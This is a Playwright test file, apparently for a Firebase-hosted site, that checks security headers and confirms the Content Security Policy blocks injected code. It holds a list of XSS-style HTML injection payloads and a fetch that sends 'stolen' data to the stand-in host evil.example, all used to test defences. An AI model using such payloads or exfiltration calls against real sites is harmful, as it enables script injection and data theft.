import { readFileSync } from 'node:fs';
import { allowErrors, expect, test } from './fixtures.ts';
import { routes } from './routes.ts';

// All other tests fail when a page violates the policy, because Chromium logs that as an error.

const { hosting } = JSON.parse(readFileSync('firebase.json', 'utf8')) as {
  hosting: { headers: { headers: { key: string; value: string }[] }[] };
};
const configured = Object.fromEntries(
  hosting.headers[0]!.headers.map(({ key, value }) => [key.toLowerCase(), value]),
);

test('every URL is served with the configured headers, and other sites can embed pictures', async ({
  request,
}) => {
  const others = ['/nothing-here', '/survey/youth.json', '/.well-known/security.txt'];
  for (const path of [...routes.map((route) => route.path), ...others])
    expect((await request.get(path)).headers(), path).toMatchObject(configured);
  for (const path of ['/social/home.png', '/icon-512.png', '/favicon.svg']) {
    const headers = (await request.get(path)).headers();
    expect(headers['cross-origin-resource-policy'], path).toBe('cross-origin');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    // A drawing that is opened by itself is no page of the site.
    if (path.endsWith('.svg')) expect(headers['content-security-policy']).toContain('sandbox');
  }
});

const evil = 'https://evil.example';

/** What an injection could do, and the directive that blocks it. */
const injected: [html: string, violation: string][] = [
  ['<script>window.isBroken = true</script>', 'script-src-elem: inline'],
  ['<img src="data:," onerror="window.isBroken = true">', 'script-src-attr: inline'],
  [`<script src="${evil}/a.js"></script>`, `script-src-elem: ${evil}/a.js`],
  [`<iframe src="${evil}/a"></iframe>`, `frame-src: ${evil}`],
  [`<img src="${evil}/a.png" alt="">`, `img-src: ${evil}/a.png`],
  [`<base href="${evil}/">`, `base-uri: ${evil}`],
  ['<style>body { display: none }</style>', 'style-src-elem: inline'],
  ['<p style="display: none">a</p>', 'style-src-attr: inline'],
  [`<object data="${evil}/a.swf"></object>`, `object-src: ${evil}`],
  [`<form name="evil" action="${evil}/a"></form>`, `form-action: ${evil}/a`],
];

test('injected code is blocked', async ({ page, pageErrors }) => {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const report = Reflect.get(window, 'reportViolation') as (text: string) => void;
      report(`${effectiveDirective}: ${blockedURI}`);
    });
  });
  await page.route('**/aboutus', async (route) => {
    const response = await route.fetch();
    const html = injected.map(([piece]) => piece).join('');
    const body = (await response.text()).replace('</body>', `${html}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/aboutus');
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.isBroken = true';
    document.body.append(script);
    const sent = await fetch('https://evil.example/?stolen=1').then(String, () => 'refused');
    const isBroken = 'isBroken' in window;
    // Last, because a page whose form was blocked no longer responds.
    setTimeout(() => document.forms.namedItem('evil')?.submit());
    return { sent, isBroken };
  });
  expect(outcome).toEqual({ sent: 'refused', isBroken: false });
  for (const [html, violation] of injected)
    await expect.poll(() => violations.join('\n'), html).toContain(violation);
  expect(violations.join('\n')).toContain('connect-src: https://evil.example');
  allowErrors(pageErrors);
});
